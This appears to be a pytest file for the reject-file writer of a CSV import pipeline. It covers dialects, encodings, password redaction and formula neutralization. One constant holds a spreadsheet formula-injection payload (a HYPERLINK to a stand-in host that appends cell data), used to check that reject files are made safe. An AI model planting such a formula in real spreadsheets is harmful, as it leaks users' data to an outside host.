from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from orderbridge.pipelines.imports.open import (
    REJECT_COLUMNS,
    count_reject_columns,
    open_input_table,
)
from orderbridge.pipelines.mapping.model import MappedColumn, Mapping
from orderbridge.pipelines.plan.model import REJECTS_FILE
from orderbridge.pipelines.plan.rejects import REFILL_NOTE, RejectsWriter
from orderbridge.sources.files import ReadOptions, RejectedRow, Row, open_table
from orderbridge.sources.files.formulas import neutralize

WHY = ("price", "not_a_number", "no number, in that sense")


def rejected(
    folder: Path,
    content: bytes,
    lines: list[int],
    reported: ReadOptions | None = None,
    mapping: Mapping | None = None,
    why: tuple[str, str, str] = WHY,
) -> bytes:
    """The reject file of these lines of a file."""
    source = folder / "source.csv"
    source.write_bytes(content)
    (folder / REJECTS_FILE).unlink(missing_ok=True)
    table = open_table(source, reported)
    used = mapping or Mapping("customers", {}, reported or ReadOptions())
    RejectsWriter(table, used, dict.fromkeys(lines, why)).write(folder)
    return (folder / REJECTS_FILE).read_bytes()


DIALECTS = {
    "semicolons in cp1252, CRLF": "Código;Año;PVP\r\nA;1;x\r\nÑ;2;y\r\n".encode("cp1252"),
    "tabs in UTF-16 with a mark": "\ufeffcode\taño\tprice\r\nA\t1\tx\r\nÑ\t2\ty\r\n".encode(
        "utf-16-le"
    ),
    "pipes, CR": b"code|year|price\rA|1|x\rB|2|y\r",
    "quoted cells with line ends in them": b'code,name,price\r\nA,"x ""1""\r\nline, two",1\r\nB,y,2\r\n',
    "single quotes": b"'code';'name';'price'\n'A';'x;1';'1'\n'B';'it''s;2';'2'\n",
    "backslashes before quotes": b'"code","name","price"\n"A","x \\"1\\"","1"\n"B","c:\\\\d","2"\n',
    "a preamble": b"Report of today\r\n\r\ncode;name;price\r\nA;x;1\r\nB;y;2\r\n",
    "a sep line": b"sep=;\r\ncode;name;price\r\nA;x;1\r\nB;y;2\r\n",
    "a delimiter at each end": b"code;name;price;\r\nA;x;1;\r\nB;y;2;\r\n",
    "all of these signs": 'a;b\r\n" ;,\t"" \'é\\\n|0=";x=\r\n"x\r";" 0"\r\n'.encode("utf-16"),
    "runs of spaces": b"code name price\nA  x  1\nB y 2\n",
}


@pytest.mark.parametrize("content", DIALECTS.values(), ids=DIALECTS.keys())
def test_a_rejected_row_reads_back_as_it_stood(tmp_path: Path, content: bytes) -> None:
    source = tmp_path / "source.csv"
    source.write_bytes(content)
    table = open_table(source)
    rows = [row for row in table.rows() if isinstance(row, Row)]
    assert len(rows) == 2
    rejected(tmp_path, content, [row.line for row in rows])
    again = open_table(tmp_path / REJECTS_FILE)
    assert again.columns[: len(table.columns)] == table.columns
    assert count_reject_columns(again.columns) == 4
    assert again.format.has_bom == table.format.has_bom
    assert [row.cells for row in again.rows()] == [
        (*row.cells, str(row.line), *WHY) for row in rows
    ]


def test_a_delimiter_that_the_rejected_rows_alone_do_not_show_is_named_in_the_file(
    tmp_path: Path,
) -> None:
    content = b'code, a, b, c, d, e0;c1\n"""q""";a\tb\na,b,c,d,e,f;a|b\na,b,c,d,e,f\n'
    assert b"code,a,b,c,d,e0;c1,line,field,code,words\n" in rejected(tmp_path, content, [2])
    assert count_reject_columns(open_table(tmp_path / REJECTS_FILE).columns) == 4


@pytest.mark.parametrize(
    "reported", [ReadOptions(header_row=3), ReadOptions("cp850", ";", quote="")]
)
def test_what_was_reported_of_the_file_holds_for_the_rejects_too(
    tmp_path: Path, reported: ReadOptions
) -> None:
    content = "Kopf;a;ñ\r\nEins;b;p\r\nZwei;c;q\r\nA;x;1\r\nB;y;2\r\n".encode(
        reported.encoding or "cp1252"
    )
    rejected(tmp_path, content, [5], reported)
    table, again = (open_table(tmp_path / name, reported) for name in ("source.csv", REJECTS_FILE))
    assert again.columns == (*table.columns, *REJECT_COLUMNS)
    words = WHY if reported.quote is None else (*WHY[:2], WHY[2].replace(";", " "))
    assert [row.cells for row in again.rows()] == [("B", "y", "2", "5", *words)]


def test_a_file_gets_back_what_it_can_hold(tmp_path: Path) -> None:
    assert rejected(tmp_path, b"1;2\n3;4\n", [2], ReadOptions(header_row=0)) == b"3;4\n"
    assert rejected(tmp_path, b"a;b\n1;2\n", []) == b"a;b;line;field;code;words\n"
    no_row_fits = rejected(tmp_path, b"a;b\n1;2;3\n", [2], ReadOptions(header_row=1))
    assert no_row_fits.startswith(b"a;b;line;field;code;words\n1;2;3;2;price;")
    written = rejected(
        tmp_path, b"a;b\n1;2\n", [2], ReadOptions(encoding="ascii"), why=("a", "b", "Año – «x»")
    )
    assert written == b"a;b;line;field;code;words\n1;2;2;a;b;A?o ? ?x?\n"


def test_a_password_is_left_out_of_whole_and_of_broken_rows_with_a_note(tmp_path: Path) -> None:
    content = b"code;secret;price\nA;hunter2;x\nB;;y\nhunter3;y\nC;d;hunter4;z\n"
    mapping = Mapping("customers", {"secret": MappedColumn("secret", "password")})
    made = rejected(
        tmp_path, content, [2, 3, 4, 5], mapping=mapping, why=("price", "x", "no")
    ).decode()
    assert "hunter" not in made
    whole, empty, short, long = made.splitlines()[-4:]
    assert (whole, empty) == (f'A;;x;2;price;x;"no; {REFILL_NOTE}"', "B;;y;3;price;x;no")
    assert all("its cells are not repeated" in line for line in (short, long))


@pytest.mark.parametrize("line", ["B;1", "B;1;2;3;4"], ids=["a cell short", "two too many"])
def test_a_row_of_another_width_is_refused_again_until_it_is_fixed(
    tmp_path: Path, line: str
) -> None:
    made = rejected(tmp_path, f"code;name;price\nA;x;1\n{line}\nC;z;3\n".encode(), [3])
    again = open_input_table(tmp_path / REJECTS_FILE, None, None)
    assert not count_reject_columns(again.columns) or all(
        isinstance(row, RejectedRow) for row in again.rows()
    )
    fixed = made.decode().replace(f"\n{line};3;", "\nB;1;2;3;")
    (tmp_path / "fixed.csv").write_text(fixed)
    (row,) = open_table(tmp_path / "fixed.csv").rows()
    assert isinstance(row, Row)
    assert row.cells == ("B", "1", "2", "3", *WHY)


def test_columns_of_these_names_that_the_mapping_names_are_the_files_own(tmp_path: Path) -> None:
    names = ("sku", "line", "field", "code", "words")
    mapping = Mapping("variants", {name: MappedColumn(name, None) for name in names})
    rejected(tmp_path, b"sku;line;field;code;words\nA;1;2;3;4\n", [2], mapping=mapping)
    again = open_table(tmp_path / REJECTS_FILE)
    assert again.columns == (*names, "line_2", "field_2", "code_2", "words_2")
    assert [row.cells for row in again.rows()] == [("A", "1", "2", "3", "4", "2", *WHY)]


FORMULA = '=HYPERLINK("http://x.test/?"&A1)'


def test_no_cell_of_a_reject_file_runs_in_a_spreadsheet_and_it_is_read_as_it_was(
    tmp_path: Path,
) -> None:
    cells = (FORMULA, "-5", "'=1", "@x", "\t+1", "+34 600 112 233", "-1+2")
    options, source = ReadOptions(delimiter=";", quote='"', header_row=1), io.StringIO()
    csv.writer(source, delimiter=";").writerows([("=a", "b", "c", "d", "e", "f", "g"), cells])
    written = rejected(tmp_path, source.getvalue().encode(), [2], options).decode()
    rows = list(csv.reader(io.StringIO(written), delimiter=";"))
    assert [cell for row in rows for cell in row if neutralize(cell) != cell] == []
    assert {"-5", "+34 600 112 233"} <= {*rows[-1]}
    again = open_input_table(tmp_path / REJECTS_FILE, options, None)
    (row,) = again.rows()
    assert isinstance(row, Row)
    assert (again.columns[0], row.cells[:7]) == ("=a", cells)
    (table,) = again.batches()
    assert [table[name][0].as_py() for name in again.columns[:7]] == list(cells)


def test_both_names_of_the_columns_of_a_reject_file_are_known() -> None:
    for names in (
        REJECT_COLUMNS,
        (*REJECT_COLUMNS[:3], "reason"),
        ("línea", "campo", "código", "motivo"),
    ):
        assert count_reject_columns(("sku", *names)) == 4
        assert count_reject_columns(("sku", "line", "code", *(f"{name}_2" for name in names))) == 4
    assert count_reject_columns(("sku", "line", "field", "code", "price")) == 0
